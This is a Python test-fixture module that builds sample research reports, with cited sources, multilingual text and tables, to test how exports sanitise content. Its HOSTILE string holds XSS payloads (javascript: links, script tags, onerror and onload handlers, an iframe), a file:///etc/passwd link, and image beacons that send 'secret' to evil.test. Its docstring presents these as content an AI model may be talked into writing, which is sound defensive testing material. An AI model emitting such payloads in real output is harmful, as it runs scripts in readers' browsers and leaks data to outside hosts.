"""Reports of every script and of hostile content, as exports are given them."""

import base64
import struct
import zlib

from deer.exports.content import ReportContent, content_of
from deer.models import Check, CheckedClaim, Phase, ReportStatus, SourceStatus
from tests.unit.cli.scripted_run import status

PAGE, ARABIC_PAGE = "https://a.example/x", "https://b.example/y?id=1"
QUOTE = "A heat pump of this kind needs 3.5 times less energy"
HEBREW, ARABIC, CHINESE = "משאבת חום זולה יותר", "مضخة الحرارة أرخص", "热泵的运行成本低于燃气锅炉"
JAPANESE, KOREAN = "ヒートポンプの費用", "히트펌프 비용"

SOURCES = (
    SourceStatus(id="s1-1", number=1, url=PAGE, title="The first page", read=True, cited=True),
    SourceStatus(id="s1-2", number=2, url=ARABIC_PAGE, title="المصدر الثاني", read=True, cited=True),
    SourceStatus(id="s1-3", number=3, url="doc://notes/costs.md", title="Notes", read=True, cited=True),
    SourceStatus(id="s1-4", number=None, url="https://c.example/seen", title="Seen", read=False, cited=False),
)
CLAIMS = (
    CheckedClaim(text="It needs less energy.", source_id="s1-1", quote=QUOTE, check=Check.VERIFIED),
    CheckedClaim(text="Noise is low.", source_id="s1-1", quote="no louder than a fridge", check=Check.UNVERIFIED),
    CheckedClaim(text="Costs differ.", source_id="s1-3", quote="costs differ <b>much</b>", check=Check.CONTRADICTED),
)
REFERENCES = f"""
## References

1. [The first page]({PAGE})
2. [المصدر الثاني]({ARABIC_PAGE})
3. [Notes](doc://notes/costs.md)
"""


def picture(size: int = 8) -> str:
    """A square red picture, so many pixels wide, as a `data:` address."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    rows = (b"\0" + bytes((200, 0, 0)) * size) * size
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
    return f"data:image/png;base64,{base64.b64encode(png).decode()}"


def content(
    body: str, *, title: str = "Heat pumps", references: str = REFERENCES, locale: str = "en-US"
) -> ReportContent:
    """A report with this body, three cited sources and their claims."""
    markdown = f"# {title}\n\n{body}\n{references}"
    report = ReportStatus(markdown=markdown, path=None, claims=CLAIMS)
    return content_of(status(Phase.COMPLETED, report=report, sources=SOURCES, locale=locale), markdown)


EVERYTHING = f"""
A heat pump needs less energy. [1] It is quiet, *very* **quiet**, and `code` stays. [1][2]

{CHINESE}。[2] {JAPANESE}、{KOREAN}。

{ARABIC} [2] 3.5.

{HEBREW}

| Machine | 价格 | {ARABIC} |
|:--------|-----:|:--------:|
| Air [3] | 8,000 | one |
| {HEBREW} | 9,000 | two |

- first
  - nested, see [the page]({PAGE})
- second

3. third
4. fourth

> quoted words

```python
print("[1] is no citation here")
```

![A chart]({picture()})

---
"""
"""What a report may hold."""

HOSTILE = """
[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [file](file:///etc/passwd) [vb](vbscript:x)

![p](https://evil.test/p?q=secret) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![seen](https://a.example/x)

<img src="https://evil.test/i.png" onerror="alert(1)"><script>alert(2)</script><style>@import "https://evil.test/s"</style>

<a href="https://evil.test/raw" onclick="alert(3)">raw</a> <iframe src="https://evil.test"></iframe>

[more](https://a.example/x?utm_source=secret#leak) [unseen](https://evil.test/y) <https://evil.test/auto> [ref]

[ref]: https://evil.test/defined "title"

| a |
|---|
| <svg onload=alert(4)> |

`<script>alert(5)</script>`
"""
"""What a model may be talked into."""
